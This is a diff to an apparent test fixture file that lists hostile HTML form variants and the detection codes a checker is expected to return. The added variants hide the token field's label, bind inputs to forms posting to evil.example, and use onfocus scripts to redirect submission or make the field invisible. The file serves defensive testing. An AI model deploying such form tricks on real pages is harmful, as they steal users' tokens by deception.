@@ -59,6 +59,9 @@ const unseen: Record<string, string> = {
   'clipped by a rectangle': 'position:absolute;clip:rect(0 0 0 0)',
   'a filter': 'filter:opacity(0)',
   'a thin line': 'height:6px;padding:0;border:0',
+  'a mask': 'mask-image:linear-gradient(transparent,transparent)',
+  'clipped by a circle elsewhere': 'clip-path:circle(20px at -500px -500px)',
+  'a filter that draws nothing': 'filter:url(#nothing)',
 };
 
 const hiddenFields = Object.fromEntries(
@@ -187,6 +190,12 @@ export const hostile: Record<string, Variant> = {
   },
 
   // Names
+  'a label that nobody sees': {
+    html: form({
+      token: `<div>Your nickname <label for="c" style="display:none">${TOKEN_LABEL}</label><input id="c"></div>`,
+    }),
+    code: 'missing',
+  },
   'no label, only a placeholder': {
     html: form({ token: `<input id="c" placeholder="${TOKEN_LABEL}">` }),
     code: 'missing',
@@ -284,6 +293,27 @@ export const hostile: Record<string, Variant> = {
     html: form({ form: 'action="take"' }).replace('<main>', '<base href="https://evil.example/"><main>'),
     code: 'sentElsewhere',
   },
+  'owned by a form that is sent to another site': {
+    html: form({
+      token: `<label for="c">${TOKEN_LABEL}</label><input id="c" form="evil">`,
+      end: '<form id="evil" action="https://evil.example/take"></form>',
+    }),
+    code: 'scattered',
+  },
+  'owned as a whole by a form that is sent to another site': {
+    html: form({ end: '<form id="evil" action="https://evil.example/take"></form>' }).replaceAll(
+      '<input ',
+      '<input form="evil" ',
+    ),
+    code: 'sentElsewhere',
+  },
+  'sent to another site by a button outside': {
+    html: form({
+      form: 'id="f"',
+      end: '<button form="f" formaction="https://evil.example/">Create Configuration</button>',
+    }),
+    code: 'sentElsewhere',
+  },
 
   // What stands in it
   'another pixel in it': { html: pixelWith('value="a2_zzzzzzzzzzzz"'), code: 'occupied' },
@@ -333,6 +363,14 @@ export const hostile: Record<string, Variant> = {
   },
   'the form turns into another platform’s': {
     html: form({ end: script("p.onfocus=()=>{t.textContent='Configure Facebook'}") }),
+    code: 'changed',
+  },
+  'the form is sent elsewhere when the token’s field is entered': {
+    html: form({ end: script("c.onfocus=()=>{document.forms[0].action='https://evil.example/'}") }),
+    code: 'changed',
+  },
+  'the token’s field hides when it is entered': {
+    html: form({ end: script("c.onfocus=()=>{c.style.opacity='0'}") }),
     code: 'changed',
   },
   'the form is sent elsewhere from now on': {
